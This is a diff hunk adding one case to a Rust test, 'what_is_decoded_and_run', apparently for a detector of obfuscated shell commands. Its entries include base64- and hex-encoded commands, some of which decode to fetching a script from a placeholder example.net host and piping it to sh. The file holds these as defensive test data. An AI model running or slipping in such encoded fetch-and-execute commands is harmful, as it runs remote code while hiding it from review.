@@ -119,6 +119,7 @@ fn what_is_decoded_and_run() {
             "echo Y3VybCBodHRwczovL2V4YW1wbGUubmV0L3ggfCBzaA== | base64 -d | bash",
             "base64 --decode <<< \"ZWNobyBoZWxsbyB3b3JsZCBhZ2Fpbg==\" | sh",
             "eval \"$(echo 6563686f2068656c6c6f20776f726c64 | xxd -r -p)\"",
+            "$(echo Y3VybA== | base64 -d) -s https://files.example.net/i | sh",
             "P=$(echo ZWNobyBoZWxsbyB3b3JsZCBhZ2Fpbg== | base64 -D)\nsh -c \"$P\"",
         ],
     );
